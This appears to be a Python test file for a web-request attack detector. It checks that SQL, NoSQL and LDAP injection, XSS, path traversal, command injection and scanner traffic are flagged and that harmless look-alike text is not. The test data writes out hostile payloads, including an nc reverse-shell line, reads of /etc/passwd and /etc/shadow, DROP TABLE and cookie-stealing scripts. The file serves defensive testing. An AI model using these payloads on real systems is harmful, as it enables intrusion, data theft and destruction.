"""Each payload detector finds attacks in their contexts and leaves the known traps alone."""

import json

import pytest

from adapters.inspection.detectors.inspector import Inspector
from core.domain.threat.model import AttackKind, Finding, Location, RequestSample
from tests.support.threat import inspector, verdict


@pytest.mark.parametrize(
    ("value", "kind"),
    [
        ("1 UNION ALL SELECT username, password FROM users--", AttackKind.SQLI),
        ("' or '1'='1", AttackKind.SQLI),
        ("admin' --", AttackKind.SQLI),
        ("1; DROP TABLE users", AttackKind.SQLI),
        ("1 AND SLEEP(5)", AttackKind.SQLI),
        ("1/**/union/**/select/**/1,2", AttackKind.SQLI),
        ("') or benchmark(1000000,md5(1))#", AttackKind.SQLI),
        ("<script>alert(1)</script>", AttackKind.XSS),
        ("<img src=x onerror=alert(1)>", AttackKind.XSS),
        ('" onmouseover="alert(document.cookie)', AttackKind.XSS),
        ("javascript:alert(1)", AttackKind.XSS),
        ("javascript: alert(document.domain)", AttackKind.XSS),
        ("';alert(String.fromCharCode(88,83,83))//", AttackKind.XSS),
        ("../../../../etc/passwd", AttackKind.TRAVERSAL),
        ("..\\..\\..\\windows\\win.ini", AttackKind.TRAVERSAL),
        ("/etc/shadow", AttackKind.TRAVERSAL),
        ("php://filter/convert.base64-encode/resource=index.php", AttackKind.TRAVERSAL),
        ("; cat /etc/passwd", AttackKind.CMDI),
        ("| nc -e /bin/sh 10.0.0.1 4444", AttackKind.CMDI),
        ("`whoami`", AttackKind.CMDI),
        ("$(id)", AttackKind.CMDI),
        ("() { :;}; /bin/bash -c 'id'", AttackKind.CMDI),
        ("& ping -n 30 127.0.0.1 &", AttackKind.CMDI),
    ],
)
def test_attacks_are_found(value: str, kind: AttackKind) -> None:
    assert verdict(value) == kind


@pytest.mark.parametrize(
    "value",
    [
        "O'Brien",
        "Conan O'Brien",
        "shipping_address",
        "select a plan from our catalog",
        "Drop-leaf table",
        "is 1=1 true in maths?",
        "a=1&b=2",
        "5 < 6 and 7 > 4",
        "chair & sleep mask set",
        "ping me on slack",
        "I'd like to cancel my coffee; thanks!",
        "john.doe+shop@example.com",
        "https://example.com/products?id=12&sort=price",
        "Price: $19.99 (was $24.99)",
        "Straße 12, 10115 Berlin",
        "rue de l'Église 4, 75001 Paris",
        "東京都渋谷区",
        "¿Dónde está la biblioteca?",
        "I love <b>bold</b> text",
        "<3 this product",
        "../README.md in the repo docs",
        "C:\\Users\\Public\\Documents",
        "50% off -- today only!",
        "AT&T",
        '{"name": "Anne-Marie d\'Estaing", "email": "am@example.fr", "note": "select the best option"}',
        "/api/v3/orders/79507/items?sort=-at&page=13&q=union+square",
        "JavaScript: The Good Parts",  # a title: a script URL needs code after the scheme
        "JavaScript: A Beginner's Guide",
    ],
)
def test_known_false_positive_traps_are_benign(value: str) -> None:
    assert verdict(value) is None


QUERY_LANGUAGE_INJECTIONS = [
    # (class of attack, example)
    ("quote and parenthesis closed, statement ended, rest commented out", "x'); --"),
    ("statement ended, rest commented out", "1; --"),
    ("stacked SELECT *", "7;SELECT *"),
    ("subquery with MSSQL's TOP", "x' (select top 5"),
    ("logic keyword glued to numbers", "2or2=2"),
    ("logic keyword glued to numbers", "1and1=1"),
    ("EXISTS predicate as a tautology", "x' or (EXISTS)"),
    ("tautology with SQL/CSV doubled quotes", '"x"") or (""b""=""b"'),
    ("tautology with SQL/CSV doubled quotes", ' or ""b""=""b"'),
    ("tautology with a national (N'...') literal", "x' or 'b' = N'b"),
    ("MSSQL stored procedure call", "exec xp"),
    ("MSSQL stored procedure call", "exec sp_who"),
    ("Oracle dynamic SQL", "1; execute immediate 'drop table t'"),
    ("entity-encoded quote then a logic operator", "admin&apos; OR"),
    ("quote, logic operator, lone quote the application closes", "guest' or '"),
    ("quote, logic operator, lone quote the application closes", "' NOT REGEXP '"),
    ("statement spelt as a hex literal", "0x64726f70207461626c652074"),
    ("clause continued from inside parentheses", "(||7)"),
    ("MongoDB operator in query-string syntax", "password[$gt]="),
    ("MongoDB operator in object syntax", "{ $ne: 1 }"),
    ("MongoDB operator as a JSON key", '{"password": {"$ne": null}}'),
    ("MongoDB object closed and a key added", "' } ], $where: 'sleep(100)'"),
    ("JavaScript in $where after a quote breakout", "' && this.token.match(/.*/)//"),
    ("JavaScript in $where: early return", "'; return '' == '"),
    ("JavaScript in $where: busy-wait timing", "';t=new Date();do{n=new Date();}while(n-t<3000);"),
    ("MongoDB shell call", "db.accounts.remove({})"),
    ("LDAP composite filter", "*(|(cn=*))"),
    ("LDAP filter closed and a new one opened", "*)(mail=*))(|(mail=*"),
    ("LDAP always-true filter", "root)(&)"),
    ("LDAP wildcard closing the filters, rest truncated", "*))%00"),
]


@pytest.mark.parametrize(
    ("rule", "value"), QUERY_LANGUAGE_INJECTIONS, ids=[r[1] for r in QUERY_LANGUAGE_INJECTIONS]
)
def test_query_language_injections_are_reported_as_sqli(rule: str, value: str) -> None:
    assert verdict(value) == AttackKind.SQLI, rule


@pytest.mark.parametrize(
    "value",
    [
        "Rock 'n' roll",
        "it's 5 o'clock",
        "don't or won't",
        "rockin' or rollin'",
        "Tom & Jerry",
        "what is 2*3?",
        "ann.o'neil@example.ie",
        "N'Djamena",
        "the 'or' operator",
        '"NOT FOR SALE"',
        'necklace length 16" or 18"',
        'say ""hello"" twice',
        "select top 10 hotels in Paris",
        "Execute immediate orders",
        "exec summary",
        "I said 'no'; return it",
        "Meet at 5; -- Anna",
        "I paid $100 in cash",
        "$in",
        '{"$schema": "https://json-schema.org/draft-07/schema", "$comment": "v2", "$type": "Order"}',
        "{name: 'Ann', tags: ['a', 'b']}",
        "**bold** and _italic_ (see [docs](https://x.example/a?b=1))",
        "# Heading\n- item one\n- item two",
        "f(x)(y=2)",
        "(see note (2*))",
        "Love you :*))",
        "(cn=John Smith)",
        "this.value is empty",
        "db.example.com",
    ],
)
def test_benign_text_near_the_new_rules_stays_benign(value: str) -> None:
    assert verdict(value) is None


def test_nosql_and_ldap_findings_name_their_detector() -> None:
    (nosql,) = inspector.inspect_value('{"password": {"$ne": null}}', Location.BODY, "body")
    assert (nosql.kind, nosql.detector, nosql.field) == (AttackKind.SQLI, "nosql", "body.password.$ne")
    (ldap,) = inspector.inspect_value("*(|(objectclass=*))", Location.QUERY, "user")
    assert (ldap.kind, ldap.detector) == (AttackKind.SQLI, "ldap")
    assert "(|(objectclass=*)" in ldap.evidence


def test_findings_carry_evidence_score_and_detector() -> None:
    (finding,) = inspector.inspect_value("1 union select 1,2", Location.QUERY, "id")
    assert finding.detector == "sqli"
    assert finding.field == "id"
    assert 0.0 < finding.score <= 1.0
    assert "union" in finding.evidence
    assert len(finding.evidence) <= 80


def test_json_bodies_are_inspected_value_by_value() -> None:
    findings = inspector.inspect_value('{"user": {"name": "x\' OR 1=1 --"}}', Location.BODY, "body")
    assert [(f.kind, f.field) for f in findings] == [(AttackKind.SQLI, "body.user.name")]


def test_scanner_signatures_only_in_user_agent_and_path() -> None:
    sample = RequestSample(
        method="GET",
        path="/.git/config",
        headers=[("User-Agent", "sqlmap/1.7.2#stable (https://sqlmap.org)")],
        query=[("q", "how do I run nmap on my laptop")],
    )
    kinds = {(f.kind, f.location) for f in inspector.inspect_request(sample)}
    assert (AttackKind.SCANNER, Location.PATH) in kinds
    assert (AttackKind.SCANNER, Location.HEADER) in kinds
    assert not any(kind == AttackKind.SCANNER and loc == Location.QUERY for kind, loc in kinds)


def test_a_referer_is_read_as_a_url() -> None:
    sample = RequestSample(
        method="GET",
        path="/",
        headers=[("Referer", "https://shop.example/search?q=1%27%20or%20%271%27%3D%271")],
    )
    assert any(f.kind == AttackKind.SQLI for f in inspector.inspect_request(sample))
    clean = RequestSample(
        method="GET", path="/", headers=[("Referer", "https://shop.example/search?a=1&b=2")]
    )
    assert not inspector.inspect_request(clean)


def test_a_remembered_verdict_is_the_same_and_callers_cannot_change_it() -> None:
    inspector = Inspector()
    first = inspector.inspect_value("1' OR '1'='1")
    first.clear()

    again = inspector.inspect_value("1' OR '1'='1")

    assert again == Inspector().inspect_value("1' OR '1'='1")
    assert inspector.is_attack(again)


def test_a_large_request_is_inspected_in_steps_with_the_same_findings() -> None:
    attack = "1 UNION SELECT password FROM users"
    values = [(f"v{n}", "plain words " * 700) for n in range(40)] + [("q", attack)]
    large = RequestSample(method="POST", path="/x", query=values)
    small = RequestSample(method="GET", path="/x", query=[("q", attack)])

    findings: list[Finding] = []
    steps = sum(1 for _ in inspector.inspect_in_steps(large, findings))
    small_findings: list[Finding] = []

    assert steps >= 10, "about one pause per 16 KiB inspected"
    assert findings == inspector.inspect_request(large)
    assert [f.field for f in findings if f.kind is AttackKind.SQLI] == ["q"]
    assert not list(inspector.inspect_in_steps(small, small_findings)), "a small request never pauses"
    assert small_findings == inspector.inspect_request(small)


@pytest.mark.parametrize("padding", [" " * 10_000, "word " * 3_000, "x" * 8_100, "a" * 300_000])
@pytest.mark.parametrize(
    ("attack", "kind"),
    [
        ("' UNION SELECT password FROM users--", AttackKind.SQLI),
        ("<script>alert(1)</script>", AttackKind.XSS),
    ],
)
def test_padding_does_not_push_an_attack_out_of_sight(padding: str, attack: str, kind: AttackKind) -> None:
    """Decoding reads 8 KiB at a time; longer values are read in overlapping windows."""
    assert verdict(padding + attack) is kind
    assert verdict(padding + attack + padding) is kind
    body = RequestSample(method="POST", path="/x", body=[("$.note", padding + attack)])
    assert inspector.is_attack(inspector.inspect_request(body))


def test_a_json_value_too_big_to_read_leaf_by_leaf_is_read_as_text() -> None:
    document = json.dumps({"items": ["<script>alert(1)</script>"] + [str(n) for n in range(10_001)]})

    assert verdict(document) is AttackKind.XSS


@pytest.mark.parametrize(
    ("value", "kind"),
    [
        ("admin'" + " " * 9_000 + "--", AttackKind.SQLI),
        ("1 OR" + "/**/" * 3_000 + "1=1", AttackKind.SQLI),
        ("1 OR" + "%20" * 3_000 + "1=1", AttackKind.SQLI),
        ("| nc" + "\t" * 9_000 + " 10.0.0.1 4444 -e /bin/sh", AttackKind.CMDI),
    ],
)
def test_filler_inside_an_attack_does_not_stretch_it_across_windows(value: str, kind: AttackKind) -> None:
    """SQL and shells skip whitespace and comments; so does the reading of long values."""
    assert verdict(value) is kind


def test_deeply_nested_json_in_a_value_is_read_as_text_not_an_error() -> None:
    assert verdict("[" * 1_200 + "]" * 1_200) is None
    assert verdict("[" * 1_200 + '"<script>alert(1)</script>"' + "]" * 1_200) is AttackKind.XSS
